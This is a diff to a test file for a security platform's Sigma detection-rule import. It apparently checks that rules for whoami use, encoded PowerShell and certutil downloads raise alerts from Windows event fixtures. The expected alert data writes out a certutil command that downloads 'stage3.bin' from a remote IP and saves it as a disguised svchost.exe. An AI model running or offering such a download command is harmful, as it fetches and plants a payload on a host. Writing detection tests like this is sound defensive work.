@@ -98,7 +98,7 @@ describe("Sigma import", () => {
   it("imports the good rules of a multi-document YAML and reports each bad one with its reason; new rules start disabled", async () => {
     const tenant = "sigma-report";
     const bad = [
-      "title: Whoami\nid: 0d5a8e1f-0000-4000-8000-00000000000a\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\whoami.exe'\n  condition: selection\n",
+      "title: Whoami\nid: 0d5a8e1f-0000-4000-8000-00000000000a\nlogsource:\n  category: process_creation\n  product: linux\ndetection:\n  selection:\n    Image|endswith: '/whoami'\n  condition: selection\n",
       "title: [broken\n",
       "title: Many failed sign-ins\nid: 0d5a8e1f-0000-4000-8000-00000000000b\ncorrelation:\n  type: temporal\n  rules: [x]\n  timespan: 1h\n",
       "title: No condition\nid: 0d5a8e1f-0000-4000-8000-00000000000c\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  selection:\n    eventName: StopLogging\n",
@@ -215,6 +215,67 @@ describe("Sigma import", () => {
       expect([c.name, result]).toEqual([c.name, { alerts: c.count, results: c.count }]);
       expect([c.name, await alertedIds(tenant, ruleId)]).toEqual([c.name, fixtureIds(c.kind, c.means)]);
     }
+  });
+
+  it("imports Windows process_creation rules that alert on the 4688 records ingested through the gateway, with the host, account and process", async () => {
+    const tenant = "sigma-process-creation";
+    const cases = SIGMA_SEMANTICS.filter((c) => c.name.startsWith("Windows process creation:"));
+    expect(cases).toHaveLength(4);
+    const yaml = cases.map((c) => c.yaml).join("---\n");
+    const payload = await imported(tenant, yaml, { kind: "NRT", enabled: true });
+    expect(payload.results.map((r) => [r.title, r.status, r.problems])).toEqual([
+      ["Whoami Utility Execution", "CREATED", []],
+      ["Run Whoami as SYSTEM", "CREATED", []],
+      ["Suspicious Encoded PowerShell Command Line", "CREATED", []],
+      ["Suspicious Download Via Certutil.EXE", "CREATED", []],
+    ]);
+    const ingestor = await platform.token([Role.INGESTOR], tenant);
+    expect((await ingestFixture(platform, ingestor, "WINDOWS_SECURITY")).status).toBe(200);
+
+    const alerts = await inTenant(ds, tenant, (m) =>
+      m.query(`SELECT title, tactics, techniques, entities FROM alerts ORDER BY start_time, title`),
+    );
+    const jump = "vm-jump-01.corp.contoso.com";
+    const certutil =
+      "certutil.exe  -urlcache -split -f http://198.51.100.23/stage3.bin C:\\Users\\Public\\Libraries\\svchost.exe";
+    expect(alerts).toEqual([
+      expect.objectContaining({ title: "Suspicious Encoded PowerShell Command Line" }),
+      expect.objectContaining({
+        title: "Whoami Utility Execution",
+        tactics: ["Discovery"],
+        techniques: ["T1033"],
+        entities: [
+          { type: "HOST", value: jump },
+          { type: "ACCOUNT", value: "CORP\\svc-sql" },
+          { type: "PROCESS", value: "whoami  /all" },
+          { type: "PROCESS", value: "whoami.exe" },
+        ],
+      }),
+      {
+        title: "Suspicious Download Via Certutil.EXE",
+        tactics: ["DefenseEvasion"],
+        techniques: ["T1027"],
+        entities: [
+          { type: "HOST", value: jump },
+          { type: "ACCOUNT", value: "CORP\\svc-sql" },
+          { type: "PROCESS", value: certutil },
+          { type: "PROCESS", value: "certutil.exe" },
+        ],
+      },
+      // The Configuration Manager client's certutil download (09:05) is left out by the rule's filter.
+      {
+        title: "Run Whoami as SYSTEM",
+        tactics: ["PrivilegeEscalation"],
+        techniques: ["T1033"],
+        entities: [
+          { type: "HOST", value: "WS-FIN-042.corp.contoso.com" },
+          { type: "ACCOUNT", value: "CORP\\WS-FIN-042$" },
+          { type: "PROCESS", value: "whoami" },
+          { type: "PROCESS", value: "whoami.exe" },
+        ],
+      },
+      expect.objectContaining({ title: "Whoami Utility Execution" }),
+    ]);
   });
 
   it("runs Sigma aggregations as summarised rules: MFA failures for one account from many IP addresses, password spray from one address", async () => {
